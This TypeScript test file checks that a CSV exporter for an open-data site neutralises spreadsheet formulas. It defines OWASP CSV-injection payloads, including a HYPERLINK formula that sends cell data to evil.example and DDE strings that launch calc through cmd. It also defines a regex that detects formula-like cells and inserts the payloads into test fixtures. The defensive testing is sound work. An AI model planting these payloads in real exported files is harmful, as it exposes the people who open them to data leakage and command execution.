/**
 * Hostile and ordinary cell values for the CSV tests (issue 19), and the check every written CSV
 * must pass: no cell that a spreadsheet would run as a formula.
 */
import { splitCsv } from '../src/open-data/csv.ts';
import type { RawFile } from '../src/model/validate.ts';
import { PLAN, catalogueFiles } from './unit/catalogue-fixtures.ts';

/** OWASP's payloads, and cells that a carriage return or a tab hides. */
export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  '＝1+1',
  '＋cmd',
  '－2+3',
  '＠SUM(1)',
];
/** Values a référent writes and must find again unchanged. */
export const ORDINARY = ['-3 postes', '+33 1 23 45 67 89', "'déjà cité'", '= voir plus haut', "'=1+1", "''=1+1", "'", "''", '', '@', 'a=b'];

/**
 * Whether a cell starts like a formula, written here apart from the writer's own list
 * (src/open-data/csv.ts), so that a character missing there is caught: OWASP "CSV Injection" names =,
 * +, -, @, tab and carriage return; a line feed (LibreOffice writes a leading CR back as LF) and the
 * full-width forms some spreadsheets fold are added.
 */
export const looksLikeFormula = (cell: string): boolean => /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

/** The cells of a written CSV that a spreadsheet would run as a formula: none, when the writer does its job. */
export function formulaCells(text: string, separator: string): string[] {
  return splitCsv(text, separator)
    .flat()
    .filter((cell) => looksLikeFormula(cell));
}

/**
 * The fixture site of the query-layer tests (tests/unit/catalogue-fixtures.ts) with a payload or an
 * ordinary value starting like a formula in every kind of free text the open data writes: titles,
 * wordings, responsible bodies, dates as printed, lettered points, comments and evidence, a round
 * label, a withdrawal note, a document's short title, a glossary expansion, and a status code "-"
 * of the document's scale.
 */
export function hostileFiles(): RawFile[] {
  const data = (f: RawFile) => f.frontmatter as Record<string, unknown>;
  const edits: Record<string, (d: Record<string, unknown>) => Record<string, unknown>> = {
    [`${PLAN}/action-3`]: (d) => ({
      ...d,
      title: PAYLOADS[0],
      wording: PAYLOADS[1],
      responsible: ['=1+1', '-3 postes'],
      dates: { due: '-2 ans' },
      statuses: [
        { round: 'b2025', status: 'EC', comment: PAYLOADS[2] },
        { round: 'b2026', status: '-', comment: "'déjà cité'", evidence: [{ title: PAYLOADS[3], url: 'https://exemple.fr/bilan' }] },
      ],
      subItems: [
        { letter: 'a', text: '+33 1 23 45 67 89' },
        { letter: 'b', text: '= voir plus haut', status: 'R' },
      ],
    }),
    [`${PLAN}/action-4`]: (d) => ({ ...d, withdrawn: { ...(d.withdrawn as object), note: '－Reprise par l’action 2.' } }),
    [`${PLAN}/axe-1`]: (d) => ({ ...d, title: "'=1+1" }),
    [`${PLAN}/axe-1-objectif-2`]: (d) => ({ ...d, title: '@Accueillir' }),
    [PLAN]: (d) => ({
      ...d,
      shortTitle: '＝Plan',
      statusScale: [...(d.statusScale as object[]), { code: '-', legend: 'Sans objet', status: 'non-realise' }],
      rounds: (d.rounds as { id: string }[]).map((r) => (r.id === 'b2026' ? { ...r, label: '+ Bilan 2026' } : r)),
    }),
    rqth: (d) => ({ ...d, expansion: '＋Reconnaissance de la qualité de travailleur handicapé' }),
  };
  const files = catalogueFiles();
  const key = (f: RawFile) => f.pathInCollection.replace(/\.mdx$/, '');
  const missing = Object.keys(edits).filter((k) => !files.some((f) => key(f) === k));
  if (missing.length > 0) throw new Error(`hostileFiles : fichiers absents du jeu d’essai : ${missing.join(', ')}`);
  return files.map((f) => (edits[key(f)] ? { ...f, frontmatter: edits[key(f)]!(data(f)) } : f));
}
